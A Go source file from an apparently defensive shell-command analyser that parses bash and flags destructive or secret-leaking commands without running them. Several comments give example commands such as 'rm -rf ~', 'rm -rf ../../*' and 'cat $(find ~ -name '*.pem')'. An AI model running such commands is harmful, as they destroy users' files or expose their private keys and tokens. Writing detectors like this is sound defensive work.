package hardline

import (
	"cmp"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"math"
	"path"
	"slices"
	"strconv"
	"strings"
	"unicode"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// Bounds on the work done for one command, beyond Config's.
const (
	maxSteps        = 1 << 16 // syntax nodes visited and simple commands analysed
	maxReparseTotal = 4       // times MaxBytes of text parsed in all, counting re-parses
	maxFindings     = 64
	maxBraceFields  = 64 // fields one word may expand to
	maxXargsItems   = 16
	// maxLoopItems bounds the items a loop's body, or a command run for
	// each start point of find, is judged with one by one; past it the
	// command is too complex (ask), so no item is left unjudged.
	maxLoopItems = 256
)

// Command analyses one shell command (a bash script of any length up to the
// configured bound) as it would run in env. It never panics, executes
// nothing, touches the file system only through env.Canonical, and is safe
// for concurrent use.
func (a *Analyzer) Command(cmd string, env Env) Result {
	res := a.command(cmd, env, nil)
	if a.windows && len(cmd) <= a.maxBytes {
		if text, ok := windowsReading(cmd, a.home); ok {
			res = mergeReadings(res, a.command(text, env, nil))
		}
	}
	return res
}

// command is Command, recording the reading in tr when it is set.
func (a *Analyzer) command(cmd string, env Env, tr *reading) (res Result) {
	// The call's caches come from a pool: only their memory is reused, every
	// answer of an earlier call is dropped first.
	calls, _ := a.callCaches.Get().(*callCache)
	if calls == nil {
		calls = &callCache{}
	}
	calls.reset(min(len(cmd)/32, 256))
	r := &calls.run // the state of the call: its memory is the pool's, its values all new
	*r = run{a: a, env: env, trace: tr, calls: calls, roots: calls.roots[:0]}
	if env.Canonical != nil {
		// Each path is resolved through the file system once per call, and
		// at most maxCanonical paths are: past that a lookup fails with
		// errCanonicalBound, and resolve says the command is too complex.
		// The count is the call's, shared with the runs of nested
		// arguments.
		calls := r.calls
		r.env.Canonical = func(abs string) (string, error) {
			if c, ok := calls.canon[abs]; ok {
				return c.path, c.err
			}
			if calls.lookups >= maxCanonical {
				return "", errCanonicalBound
			}
			calls.lookups++
			p, err := env.Canonical(abs)
			if calls.canon == nil {
				calls.canon = make(map[string]canonAnswer, calls.hint)
			}
			calls.canon[abs] = canonAnswer{p, err}
			return p, err
		}
	}
	if env.WorkDir != "" {
		if wd := a.clean(a.slash(env.WorkDir)); a.isAbs(wd) {
			r.cwd = wd
		}
	}
	r.workDir = r.cwd
	for _, root := range env.Roots {
		p := a.clean(a.slash(root.Path))
		if root.Path == "" || !a.isAbs(p) {
			continue
		}
		r.roots = append(r.roots, Root{Path: p, Writable: root.Writable})
	}
	defer func() {
		if p := recover(); p != nil {
			r.add(Finding{Rule: ruleInternal, Kind: Dynamic, Severity: Ask,
				Detail: bound(fmt.Sprintf("the analyser failed (%v); the command was not understood", p))})
			res = r.result()
		}
	}()
	if len(cmd) > a.maxBytes {
		r.tooComplex(fmt.Sprintf("the command is %d bytes, over the %d-byte bound", len(cmd), a.maxBytes))
		return r.result()
	}
	r.script(cmd, nil, 0)
	res = r.result()
	a.callCaches.Put(calls) // not after a panic: the caches are then dropped
	return res
}

// run is the state of one Command call.
type run struct {
	a       *Analyzer
	env     Env
	roots   []Root
	workDir string
	cwd     string // "" when unknown
	// oldpwd is $OLDPWD once a cd of the script set it ("" when unknown);
	// cdDone says one did.
	oldpwd   string
	findings []Finding
	seen     map[Finding]struct{}
	// procs are the process substitutions words expanded to (field.proc).
	procs []*syntax.ProcSubst
	// cdpath is the CDPATH the command being judged, or one around it,
	// assigns for itself; nil when none does.
	cdpath *field
	// cmdCall is the command being judged, whose assignments before it
	// (CARGO_TARGET_DIR=~ cargo clean) the entries that read a variable's
	// folder read (envFolder); env's NAME=VALUE words are in calls.envWords.
	cmdCall *syntax.CallExpr
	steps   int32 // syntax nodes and commands judged (maxSteps)
	// inlined counts the function calls judged with their arguments;
	// included the command files a program's own language includes
	// (sqlite3's .read FILE) being judged.
	inlined, included int32
	parsed            int
	cfg               expand.Config
	xenv              exEnv
	// cmdSubst and procSubst are the expansion callbacks, made once per run.
	cmdSubst  func(io.Writer, *syntax.CmdSubst) error
	procSubst func(*syntax.ProcSubst) (string, error)
	written   map[string]written // files the command writes by redirection or tee
	// files holds what the command does to files that few commands do,
	// nil until one does (runFiles).
	files   *runFiles
	aliases map[string]string // aliases the command defines
	// progCopies maps the copies and links of installed programs the
	// command makes (their paths' keys, and their names) to the program
	// (see noteProgramCopy).
	progCopies map[string]string
	// found are the start points of command substitutions that print
	// paths found under them (cat $(find ~ -name '*.pem')), by the why
	// of the word they made (see foundPaths).
	found map[string][]field
	// split holds the fields of the word expand read last when it split
	// into several. When splitting is what made the word dynamic (its
	// why), its values were all known (a="rm -rf"; $a ~), and words uses
	// them as the fields bash makes.
	split []string
	// fds are the inputs exec has opened on descriptors (exec 3<<<'CMD'),
	// which a later <&3 reads.
	fds map[string]input
	// listing is set while the words of a listing program are checked.
	listing bool
	// dotglob says the command makes patterns match dot files (shopt -s
	// dotglob, GLOBIGNORE=...).
	dotglob bool
	// nocaseglob says the command makes patterns match without regard to
	// case (shopt -s nocaseglob, bash -O nocaseglob).
	nocaseglob bool
	// lexicalOnly is set while the words of a simple command are matched
	// as written; checkTargets resolves the targets among them.
	lexicalOnly bool
	// canonOnly is set while checkTargets matches the resolved forms of
	// targets.
	canonOnly bool
	cdDone    bool  // see oldpwd
	safeWD    uint8 // 0 unknown, 1 no sensitive pattern reaches into WorkDir, 2 some may
	complex   bool
	// startCwd is the folder the program applyEntry judges starts in,
	// before an option such as -C moves it.
	startCwd string
	// lexCwd is the folder the words were matched as written in: a target
	// resolved after the program moved its working folder (git -C ~) is
	// matched as written again.
	lexCwd string
	// scriptIn is the standard input the next script judged (sh -c
	// SCRIPT, a runner's script) inherits from the command that runs it
	// (echo CMD | bash -c bash): script takes it for the statements that
	// read their input first, and clears it.
	scriptIn input
	// inConfig counts the configuration files (curl -K, .curlrc, a
	// wgetrc) whose options are being judged as the program's arguments:
	// the default ones are not looked for again inside one, and one
	// naming another is followed up to maxConfigDepth.
	inConfig int
	// entries counts the catalogue entries being applied, one inside
	// another (a wrapper's command, a configuration's options): past
	// maxEntryNesting the line is too complex, whatever path led there,
	// so that no file or option that names itself can recurse unbounded.
	entries int
	// loopVars and loopTree are set while readLoop judges a loop's body
	// for one of its items: the variables read stand for it, and targets
	// stand for everything under them.
	loopVars map[string]field
	loopTree bool
	// pathSet says the command gives PATH a value of its own, binWritten
	// that it writes into a node_modules/.bin folder: a bare command name
	// may then run a file it wrote (see writtenOnPath). (Beside loopTree,
	// so that the five share a word.)
	pathSet, binWritten bool
	// cdAlt is set during the walk in which a cd that may not have run
	// leaves the folder as it was (see script and folderChanges);
	// inAndChain while an && list is walked in it.
	cdAlt, inAndChain bool
	// echo is how the shell running the script being walked reads echo's
	// arguments, and echoFlags what else decides the readings it is
	// judged under (see echoAlts).
	echo      echoReading
	echoFlags echoFlag
	// skipDots says the command turns bash's globskipdots on (shopt -s
	// globskipdots), so that no pattern matches . or .. (see dotDotPattern).
	skipDots bool
	// homes are the folders the command points HOME or XDG_CONFIG_HOME
	// at, where programs read their configuration (see homeWritten); nil
	// when it points them nowhere.
	homes *homeOverrides
	// gitSecret names a credential a git call recorded in the
	// repository (a commit's message or author, a tag, a branch's name),
	// which a later git push sends, or is whyEnviron for the environment
	// (see gitRecordsSecret).
	gitSecret string
	// trace, when set, records the reading for the differential oracle.
	trace *reading
	// calls holds the answers of this call's lookups, shared with the runs
	// of nested arguments, which resolve in the same file system.
	calls *callCache
}

func (r *run) result() Result {
	if r.calls != nil && len(r.calls.askOnly) > 0 {
		for i, f := range r.findings {
			if r.calls.askOnly[f] {
				r.findings[i].Severity = Ask
			}
		}
	}
	slices.SortFunc(r.findings, compareFindings)
	res := Result{Findings: r.findings}
	if r.calls != nil {
		for p, a := range r.calls.scripts {
			if a.err == nil || errors.Is(a.err, ErrScriptTooLarge) {
				res.Scripts = append(res.Scripts, Script{Path: p, SHA256: sha256.Sum256([]byte(a.text))})
			}
		}
		for p := range r.calls.absent { // (a file's answer stays the call's: none of these was read)
			res.Scripts = append(res.Scripts, Script{Path: p, Absent: true})
		}
		slices.SortFunc(res.Scripts, compareScripts)
	}
	return res
}

func (r *run) add(f Finding) {
	if r.calls != nil && r.calls.onDisk != "" {
		if f.Severity != Block && f.Rule != ruleTooComplex {
			return
		}
		if !strings.HasPrefix(f.Detail, r.calls.onDisk) {
			f.Detail = r.calls.onDisk + f.Detail // (a finding of a trial, added again, has it)
		}
		if r.calls.onDiskAsk {
			// Read by its text (see programFromDisk): it asks once the
			// call is judged. Until then it is kept as it is, so that a
			// script judged inside the program, whose findings are added
			// again here, keeps what blocks in it; the same finding made
			// outside the program has another detail.
			if r.calls.askOnly == nil {
				r.calls.askOnly = map[Finding]bool{}
			}
			r.calls.askOnly[f] = true
		}
	}
	if len(f.Command) > MaxCommandText {
		cut := MaxCommandText - 3
		for cut > 0 && f.Command[cut]&0xC0 == 0x80 {
			cut--
		}
		f.Command = f.Command[:cut] + "..."
	}
	if _, ok := r.seen[f]; ok {
		return
	}
	if r.seen == nil {
		r.seen = map[Finding]struct{}{}
	}
	if len(r.findings) >= maxFindings {
		// The list is full: a block still takes the place of the last
		// ask, so that no number of asks before it lowers the verdict
		// (64 unknown command names and then rm -rf ~ block).
		if f.Severity != Block {
			return
		}
		for i := len(r.findings) - 1; i >= 0; i-- {
			if r.findings[i].Severity != Block {
				delete(r.seen, r.findings[i])
				r.seen[f] = struct{}{}
				r.findings[i] = f
				return
			}
		}
		return
	}
	r.seen[f] = struct{}{}
	r.findings = append(r.findings, f)
}

func (r *run) tooComplex(detail string) {
	if r.complex {
		return
	}
	r.complex = true
	r.add(Finding{Rule: ruleTooComplex, Kind: Dynamic, Severity: Ask, Detail: detail})
}

// step counts work and reports whether the budget allows more.
func (r *run) step() bool {
	r.steps++
	if r.steps > maxSteps {
		r.tooComplex("the command needs more analysis steps than the bound allows")
		return false
	}
	return true
}

// callCache holds the answers of one Command call's lookups, and the
// memory its fields are carved from.
type callCache struct {
	hint     int                    // the maps' expected size, from the command's length
	canon    map[string]canonAnswer // Env.Canonical's answers
	lookups  int                    // Env.Canonical calls made (at most maxCanonical)
	globbed  map[string]globAnswer  // Env.GlobLinks's answers, by pattern, and Env.TreeLinks's, by "\x01" and folder
	resolved []resolvedWords        // resolve's answers by context, as indexes into answers
	answers  []resolved
	spare    map[string]int32 // an emptied map for the first context of resolved
	arena    arena[field]     // fields handed out by fields
	strs     arena[string]
	// seen are the variables evaluated has followed (see arith.go), as a
	// stack: each evaluation truncates it back when it returns.
	seen []string
	// texts holds the strings a call builds (run.commandText, join). It
	// is never reset for reuse: the findings of a call keep its strings.
	texts strings.Builder
	// envWords are the NAME=VALUE words env gives the command it runs, as
	// a stack: each statement truncates it back when it ends (envFolder).
	envWords []field
	// planted are the texts written or appended to files since the last
	// statement ended: judgePlanted reads those a program runs later.
	planted []plantedText
	// links are the links the command makes (ln -s, ln, cp -s, cp -l, a
	// link copied as a link), by the key of the path made, to the path it
	// leads to; linkGen counts them, so that resolve's answers from before
	// a link was made are not reused after (see throughLinks and physical).
	links   map[string]string
	linkGen int32
	// pipeMemo holds, while a pipeline is walked, what each of its
	// prefixes (a | b of a | b | c) writes into the pipe after it, so
	// that each stage's reading of what it is given, which walks up
	// through the filters before it, reads each prefix once: without it
	// a pipeline of n filters costs n² readings of its prefixes or more.
	// Only the prefixes of pipelines being walked are kept
	// (pipePrefixes); what they write does not change while they are
	// walked (each stage runs in a subshell of its own).
	pipeMemo     map[pipeMemoKey]input
	pipePrefixes map[*syntax.Stmt]bool
	// scripts are the script files read for the call (see scriptfiles.go),
	// by canonical path, and running those whose text is being judged.
	// patternBound says the last pattern patternOnDisk read had every
	// match bound (Result.Scripts); simple clears it before the pattern
	// it runs is read.
	patternBound bool
	scripts      map[string]scriptAnswer
	scriptFiles  int // the files of scripts that are there (see callCache.script)
	// absent are the files the command runs by name, or a runner's own
	// files, that are not there when it is judged (noteAbsent): another
	// call may write them before it runs.
	absent map[string]bool
	// listings are the folders listed for patterns that name a file run
	// (bindMatches), by canonical path: at most maxPatternDirs a call.
	listings map[string][]string
	running  map[string]bool
	exists   []existsAnswer // Config.Exists's answers (run.exists)
	// gitSearched are the folders git was run in and what it would take
	// for a bare repository there (run.gitBare).
	gitSearched []gitSearch
	// onDisk is set while the text of a file read from disk is judged
	// (run.onDisk): only the findings that block, or that pass a bound,
	// are kept, each with onDisk before its detail; while onDiskAsk is
	// set (another language's program, read by its text), they ask.
	onDisk    string
	onDiskAsk bool
	askOnly   map[Finding]bool // the findings that ask however they were made (see run.add)
	// readMemo holds the readings of other writers while the outermost
	// reading lasts (readDepth counts the readings under way).
	readMemo   map[pipeMemoKey]input
	readDepth  int
	inputReads int // readings of what pipes carry (maxInputReads)
	// run is the state of the call itself, and roots room for its roots
	// (run.roots): each call sets every field of run anew.
	run   run
	roots [4]Root
}

// reset empties the caches for a new call whose maps should hold about
// hint entries, keeping their memory unless an earlier call made it large.
func (c *callCache) reset(hint int) {
	c.hint, c.lookups = hint, 0
	c.texts = strings.Builder{}
	clear(c.envWords[:cap(c.envWords)]) // no string of the last call stays reachable
	c.envWords = c.envWords[:0]
	clear(c.planted[:cap(c.planted)]) // no string of the last call stays reachable
	c.planted = c.planted[:0]
	c.links, c.linkGen = nil, 0
	clear(c.pipeMemo)
	clear(c.pipePrefixes)
	clear(c.readMemo)
	c.inputReads, c.readDepth = 0, 0
	c.scripts, c.scriptFiles, c.running, c.onDisk, c.onDiskAsk, c.askOnly = nil, 0, nil, "", false, nil // no script of the last call stays reachable
	c.listings, c.absent, c.patternBound = nil, nil, false
	clear(c.exists[:cap(c.exists)]) // no string of the last call stays reachable
	c.exists = c.exists[:0]
	clear(c.gitSearched[:cap(c.gitSearched)])
	c.gitSearched = c.gitSearched[:0]
	clear(c.seen[:cap(c.seen)]) // no string of the last call stays reachable
	c.seen = c.seen[:0]
	if len(c.canon) > 512 {
		c.canon = nil
	}
	clear(c.canon)
	var spare map[string]int32
	if len(c.resolved) > 0 && len(c.resolved[0].words) <= 512 {
		spare = c.resolved[0].words
		clear(spare)
	}
	clear(c.resolved)
	c.resolved, c.spare = c.resolved[:0], spare
	if cap(c.answers) > 1024 {
		c.answers = nil
	}
	clear(c.answers[:cap(c.answers)])
	c.answers = c.answers[:0]
	c.arena.reset()
	c.strs.reset()
	c.globbed = nil
}

// fields returns an empty slice with room for n fields, carved from the
// call's arena so that one allocation serves many commands. Appending past
// n reallocates, as with any slice.
func (c *callCache) fields(n int) []field {
	if c == nil || n > 64 {
		return make([]field, 0, n)
	}
	return c.arena.take(n, 256)
}

// field returns a zero field carved from the call's arena.
func (c *callCache) field() *field {
	s := c.fields(1)[:1]
	s[0] = field{}
	return &s[0]
}

// join returns a+b+c written into the call's text buffer (see texts):
// the strings a call builds share a few allocations instead of one each.
func (c *callCache) join(a, b, d string) string {
	if c == nil {
		return a + b + d
	}
	t := c.textBuf()
	start := t.Len()
	t.WriteString(a)
	t.WriteString(b)
	t.WriteString(d)
	return t.String()[start:]
}

// textBuf returns the call's text buffer, with room made on first use for
// about twice the command's length.
func (c *callCache) textBuf() *strings.Builder {
	if c.texts.Cap() == 0 {
		c.texts.Grow(max(c.hint*64, 64))
	}
	return &c.texts
}

// strings returns an empty slice with room for n strings, carved as
// fields does.
func (c *callCache) strings(n int) []string {
	if c == nil || n > 16 {
		return make([]string, 0, n)
	}
	return c.strs.take(n, 128)
}

// maxChunks bounds the chunks an arena keeps from call to call; a call
// that needs more gets plain allocations past them.
const maxChunks = 8

// arena hands out empty slices carved from chunks that are kept, emptied,
// for the next call, so that a call of the usual size allocates none.
type arena[T any] struct {
	chunks [][]T
	cur    int // the chunk being carved
}

// take returns an empty slice with room for n elements (n at most size,
// the length of a new chunk).
func (a *arena[T]) take(n, size int) []T {
	for {
		if a.cur < len(a.chunks) {
			c := a.chunks[a.cur]
			if i := len(c); cap(c)-i >= n {
				a.chunks[a.cur] = c[:i+n]
				return c[i : i : i+n]
			}
			if a.cur+1 < len(a.chunks) {
				a.cur++
				continue
			}
		}
		if len(a.chunks) >= maxChunks {
			return make([]T, 0, n)
		}
		a.chunks = append(a.chunks, make([]T, 0, size))
		a.cur = len(a.chunks) - 1
	}
}

// reset empties the chunks for the next call, clearing what this call
// carved so that none of its values (command words among them) is kept
// alive or seen again.
func (a *arena[T]) reset() {
	for i := 0; i < len(a.chunks) && i <= a.cur; i++ {
		clear(a.chunks[i])
		a.chunks[i] = a.chunks[i][:0]
	}
	a.cur = 0
}

// canonAnswer is one answer of Env.Canonical.
type canonAnswer struct {
	path string
	err  error
}

// scope is one parsed script: the top-level command or a re-parsed string.
type scope struct {
	src     string
	depth   int // wrapper and re-parse depth
	vars    map[string]varDef
	inherit map[string]string
	pipeUp  map[*syntax.Stmt]*syntax.Stmt // statement -> the statement piping into it
	procIn  map[*syntax.Stmt]bool         // statements in a process substitution
	// groupIn is the standard input a compound command's redirection
	// gives the statements in it that may read it first ({ sh; } <<< CMD).
	groupIn map[*syntax.Stmt]input
	// filterDepth bounds pipeInput's walk up through filters, funcDepth
	// the function bodies funcOutput reads into one another.
	filterDepth, funcDepth int
	// funcs are the functions the script defines, by name: a call is
	// judged with its arguments as the body's positional parameters.
	funcs map[string]*syntax.FuncDecl
	// arithWas are the values variables held before an arithmetic
	// expression that reads them assigned them (x++): see arithTaint.
	arithWas map[string]string
	// refs are the name references the script declares (declare -n
	// r=X), by name: their target.
	refs map[string]string
	// ints are the variables declared integers (declare -i), whose
	// assigned values bash evaluates (see arith.go).
	ints map[string]bool
	// cased are the variables declared lower case ('l', declare -l) or
	// upper case ('u', declare -u), whose values bash converts when they
	// are assigned (see define).
	cased map[string]byte
	// history are the entries history -s added, which fc -s runs;
	// historyUnknown says others may be there (history -r FILE).
	history        []string
	historyUnknown bool
	// cdSure are the cd, pushd and popd commands whose failure stops
	// what follows (cd DIR && ..., cd DIR || exit, under set -e): in the
	// walk that reads a cd as possibly not run, only they move the
	// folder (see folderChanges).
	cdSure map[*syntax.CallExpr]bool
	// itemLoops are the for loops whose bodies forLoop judges once for
	// each of their items, all known: in the main walk of such a body the
	// variable stands for one of them, not for a value not known.
	itemLoops []itemLoop
}

// itemLoop is a for loop's variable and the span of its body.
type itemLoop struct {
	name     string
	from, to uint
}

// loopItem reports whether f, a word not known of the command at offset
// pos, is only the variable of a for loop around it whose items are all
// known and judged one by one (itemLoops).
func (sc *scope) loopItem(f field, pos uint) bool {
	for _, l := range sc.itemLoops {
		if pos >= l.from && pos < l.to && f.why == "$"+l.name { // ("${f}" too)
			return true
		}
	}
	return false
}

// varDef is what the pre-pass learnt about a shell variable.
type varDef struct {
	value   string
	after   uint // offset after which the value holds
	tainted bool // assigned a value that is not static, or more than one value
	// why is what a value not known holds, when that matters: the
	// environment ($(env), kept from then on), every process's ID
	// ($(pgrep -f .)), or paths a substitution found ($(find ~ ...)).
	why string
	// secret names the credential variable whose value the variable was
	// assigned (t=$GITHUB_TOKEN), if any (see egress.go).
	secret string
	// array says value holds an indexed array's elements, joined by NUL
	// (arr=(a b)); $arr is its first.
	array bool
	// later is the definition that holds from its own after on: a
	// positional parameter's value after a shift (see shiftPositional).
	later *varDef
}

// parse parses src as bash with one of the analyser's pooled parsers.
func (r *run) parse(src string) (*syntax.File, error) {
	p := r.a.parsers.Get().(*syntax.Parser)
	f, err := p.Parse(strings.NewReader(src), "")
	r.a.parsers.Put(p)
	if err == nil {
		readAsBash(f, src)
	}
	return f, err
}

// script parses and analyses src at the given depth.
func (r *run) script(src string, inherit map[string]string, depth int) {
	stdin := r.scriptIn // (taken first, so that no other script inherits it)
	r.scriptIn = input{}
	if depth > r.a.maxDepth {
		r.tooComplex("wrappers and nested scripts are deeper than the bound")
		return
	}
	r.parsed += len(src)
	if r.parsed > maxReparseTotal*r.a.maxBytes {
		r.tooComplex("nested scripts are larger in total than the bound")
		return
	}
	f, err := r.parse(src)
	if err != nil {
		detail := "the command does not parse as bash: " + err.Error()
		if syntax.IsIncomplete(err) {
			detail = "the command is incomplete: " + err.Error()
		}
		r.add(Finding{Rule: ruleParseError, Kind: Dynamic, Severity: Ask, Detail: bound(detail)})
		// Judge the lines before the broken one, so that a trailing syntax
		// error does not hide a destructive command.
		f = nil
		var pe syntax.ParseError
		if errors.As(err, &pe) {
			off := min(int(pe.Pos.Offset()), len(src))
			if i := strings.LastIndexByte(src[:off], '\n'); i > 0 {
				f, err = r.parse(src[:i])
				src = src[:i]
			}
		}
		if f == nil || err != nil {
			return
		}
	}
	if r.echoFlags&echoXPGNamed == 0 && strings.Contains(src, "xpg_echo") {
		r.echoFlags |= echoXPGNamed // shopt -s xpg_echo, bash -O xpg_echo, BASHOPTS=xpg_echo
	}
	sc := &scope{src: src, depth: depth, inherit: inherit}
	ok, renamed := r.prepass(sc, f, nil)
	if !ok {
		return
	}
	var kept map[int]bool // names written as their own aliases' text (see plainNames)
	// The script as written, before its aliases are replaced: bash runs it
	// so when it does not expand them (a script's bash, until shopt -s
	// expand_aliases; a line that defines the alias it uses; a quoted or
	// unaliased name, command, env or a child shell), so it is judged too.
	asWritten, writtenScope := f, sc
	for round := 0; renamed && round < maxRenameRounds; round++ {
		// Names bash reads otherwise than the parser ('export', \cd,
		// command cd, an alias): the text as bash runs it is parsed and
		// judged instead (an alias naming another, in the next round).
		plain, next, changed, over := plainNames(f, src, kept)
		if over {
			r.tooComplex(fmt.Sprintf("more than %d command names are written otherwise than bash reads them", maxNameEdits))
			return
		}
		if !changed {
			break
		}
		if r.parsed += len(plain); len(plain) > r.a.maxBytes || r.parsed > maxReparseTotal*r.a.maxBytes {
			r.tooComplex("the command's names and aliases, written as bash reads them, are longer than the bound")
			return
		}
		g, err := r.parse(plain)
		if err != nil {
			// bash would not run it as written either; what parses is
			// judged as it stands.
			r.add(Finding{Rule: ruleParseError, Kind: Dynamic, Severity: Ask, Detail: bound("the command, its names and aliases written as bash reads them, does not parse: " + err.Error())})
			break
		}
		f, src, sc = g, plain, &scope{src: plain, depth: depth, inherit: inherit}
		kept = next
		if ok, renamed = r.prepass(sc, f, kept); !ok {
			return
		}
	}
	inheritInput(writtenScope, asWritten, stdin)
	if f != asWritten {
		inheritInput(sc, f, stdin) // the script as bash reads its names
	}
	if f != asWritten && strings.Contains(writtenScope.src, "alias") {
		cwd, oldpwd, cdDone, tr := r.cwd, r.oldpwd, r.cdDone, r.trace
		r.trace = nil // the oracle's reading is the first walk's
		writtenScope.inheritFuncs()
		r.walk(writtenScope, asWritten)
		r.cwd, r.oldpwd, r.cdDone, r.trace = cwd, oldpwd, cdDone, tr
	}
	sc.inheritFuncs()
	movesFolders := identIn(src, "cd") || identIn(src, "pushd") || identIn(src, "popd")
	if r.cdAlt && movesFolders {
		// A script nested in the second walk (below) knows its own sure
		// folder changes.
		sc.cdSure, _ = folderChanges(f)
	}
	startCwd, startOld, startDone, startSteps := r.cwd, r.oldpwd, r.cdDone, r.steps
	r.walk(sc, f)
	if !r.cdAlt && movesFolders {
		// A cd that may not run, or may fail without stopping what
		// follows (false && cd a/b; rm -rf ../../*, cd a/b; ... when a/b
		// does not exist, a cd in a branch or a function not called),
		// leaves the commands after it in the folder before it: the
		// script is walked again so, the stricter findings standing. The
		// second walk has the same bound on its steps as the first.
		if sure, unsure := folderChanges(f); unsure {
			cwd, oldpwd, cdDone, steps := r.cwd, r.oldpwd, r.cdDone, r.steps
			r.cwd, r.oldpwd, r.cdDone, r.steps = startCwd, startOld, startDone, startSteps
			tr := r.trace
			sc.cdSure, r.cdAlt, r.trace = sure, true, nil // the oracle's reading is the first walk's
			r.walk(sc, f)
			r.cwd, r.oldpwd, r.cdDone, r.cdAlt, r.steps, r.trace = cwd, oldpwd, cdDone, false, max(steps, r.steps), tr
		}
	}
	if alts := r.echoAlts(); len(alts) > 0 && r.echoFlags&echoAgain == 0 && holdsBackslash(src, inherit) {
		// The shell's echo may read escapes otherwise (sh is dash on one
		// system and bash on another): the script is walked again under
		// each other reading, the stricter findings standing.
		cwd, oldpwd, cdDone, primary := r.cwd, r.oldpwd, r.cdDone, r.echo
		r.echoFlags |= echoAgain
		for _, m := range alts {
			// A fresh scope: the variables the pre-pass gives a value
			// from an echo ($(echo ...)) take it as this reading does.
			r.cwd, r.oldpwd, r.cdDone, r.echo = startCwd, startOld, startDone, m
			alt := &scope{src: src, depth: depth, inherit: inherit}
			if ok, _ := r.prepass(alt, f, kept); !ok {
				break
			}
			alt.inheritFuncs()
			r.walk(alt, f)
		}
		r.cwd, r.oldpwd, r.cdDone, r.echo = cwd, oldpwd, cdDone, primary
		r.echoFlags &^= echoAgain
	}
}

// holdsBackslash reports whether src or a value it inherits holds a
// backslash, which an echo may read as an escape.
func holdsBackslash(src string, inherit map[string]string) bool {
	if strings.IndexByte(src, '\\') >= 0 {
		return true
	}
	for _, v := range inherit {
		if strings.IndexByte(v, '\\') >= 0 {
			return true
		}
	}
	return false
}

// echoFlag is a bit of run.echoFlags.
type echoFlag uint8

const (
	// echoSh says the shell running the script may read echo as dash,
	// as bash or as bash with xpg_echo (sh, ksh and the others).
	echoSh echoFlag = 1 << iota
	// echoAgain is set while a script is walked again under another
	// reading.
	echoAgain
	// echoXPGNamed says the command names bash's xpg_echo option, which
	// may turn it on.
	echoXPGNamed
)

// enterShell makes b the shell that runs the scripts judged until the
// returned function restores the one before: its echo is read as b's
// (see echoReading). A bash given -O xpg_echo (in args) may decode
// escapes from then on.
func (r *run) enterShell(b string, args []field) func() {
	echo, flags := r.echo, r.echoFlags
	r.echo, r.echoFlags = echoBash, flags&echoXPGNamed
	switch b {
	case "bash", "rbash", "fish", "pwsh":
	case "zsh":
		r.echo = echoXPG
	case "dash", "posh":
		r.echo = echoDash
	default:
		r.echoFlags |= echoSh
	}
	if slices.ContainsFunc(args, func(f field) bool { return strings.Contains(f.val, "xpg_echo") }) {
		r.echoFlags |= echoXPGNamed
	}
	return func() { r.echo, r.echoFlags = echo, flags&^echoXPGNamed|r.echoFlags&echoXPGNamed }
}

// echoAlts are the readings of echo other than r.echo under which the
// script the current shell runs is judged too: sh may be dash (Debian, Ubuntu),
// bash (Fedora) or bash with xpg_echo (macOS), and so may the shells not
// named below; bash may have xpg_echo turned on when the command names it.
// zsh, dash and posh are read as they are; fish, csh, tcsh and pwsh do not
// decode echo's text unless told to, as bash.
func (r *run) echoAlts() []echoReading {
	switch {
	case r.echoFlags&echoSh != 0:
		return []echoReading{echoDash, echoXPG}
	case r.echo == echoBash && r.echoFlags&echoXPGNamed != 0:
		return []echoReading{echoXPG}
	}
	return nil
}

// folderChanges returns the cd, pushd and popd commands of f whose
// failure stops the commands that depend on them: every command of an &&
// list but its last (cd a && cd b && make), one whose failure ends the
// script (cd DIR || exit 1, and in a function cd DIR || return; at the
// top a return fails and the script goes on), the last command of an if's
// condition (if cd DIR; then ...), and the script's own statements after
// a set -e of its own list and before a set +e. It reports unsure when f
// holds any other, one run by eval or source, or a command after an &&
// list that moves the folder (cd a && make; rm -rf ../x runs rm in the
// folder before when cd a fails).
func folderChanges(f *syntax.File) (sure map[*syntax.CallExpr]bool, unsure bool) {
	mark := func(s *syntax.Stmt) bool {
		if c, ok := s.Cmd.(*syntax.CallExpr); ok && movesFolder(c) {
			if sure == nil {
				sure = map[*syntax.CallExpr]bool{}
			}
			sure[c] = true
			return true
		}
		return false
	}
	var cds []*syntax.CallExpr
	var funcs [][2]uint // the function bodies seen so far, as offsets
	inFunc := func(n syntax.Node) bool {
		return slices.ContainsFunc(funcs, func(r [2]uint) bool { return r[0] <= n.Pos().Offset() && n.Pos().Offset() < r[1] })
	}
	chainEnd, lastCall := uint(0), uint(0) // the first && list's end that moves the folder; the last command's start
	walkTree(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.FuncDecl:
			funcs = append(funcs, [2]uint{n.Pos().Offset(), n.End().Offset()})
		case *syntax.IfClause:
			if len(n.Cond) > 0 && mark(n.Cond[len(n.Cond)-1]) {
				// As an && list's: an else, or what follows the if, runs
				// where the shell was when the cd fails.
				if end := n.End().Offset(); chainEnd == 0 || end < chainEnd {
					chainEnd = end
				}
				unsure = unsure || n.Else != nil
			}
		case *syntax.BinaryCmd:
			switch {
			case n.Op == syntax.AndStmt:
				moved := mark(n.X)
				if b, ok := n.X.Cmd.(*syntax.BinaryCmd); ok && b.Op == syntax.AndStmt {
					moved = mark(b.Y) || moved // (cd a && cd b) && make
				}
				if end := n.End().Offset(); moved && (chainEnd == 0 || end < chainEnd) {
					chainEnd = end
				}
			case n.Op == syntax.OrStmt && endsScript(n.Y, inFunc(n)):
				mark(n.X)
			}
		case *syntax.CallExpr:
			lastCall = max(lastCall, n.Pos().Offset())
			if movesFolder(n) {
				cds = append(cds, n)
			}
			if len(n.Args) > 1 && (n.Args[0].Lit() == "eval" || n.Args[0].Lit() == "source" || n.Args[0].Lit() == ".") {
				unsure = true // a cd in the text it runs is not seen here
			}
		}
		return true
	})
	errexit := false
	for _, s := range f.Stmts {
		if c, ok := s.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 1 && c.Args[0].Lit() == "set" {
			errexit = setsErrexit(c, errexit)
		} else if errexit {
			mark(s)
		}
	}
	if unsure {
		return sure, true
	}
	for _, c := range cds {
		if !sure[c] {
			return sure, true
		}
	}
	return sure, chainEnd > 0 && lastCall > chainEnd
}

// setsErrexit returns whether errexit is on after the set command c,
// given whether it was before: -e (in a group of letters: -eu, -euo
// pipefail) and -o errexit turn it on, +e and +o errexit off.
func setsErrexit(c *syntax.CallExpr, on bool) bool {
	for i, w := range c.Args[1:] {
		v := w.Lit()
		switch {
		case v == "-o" || v == "+o":
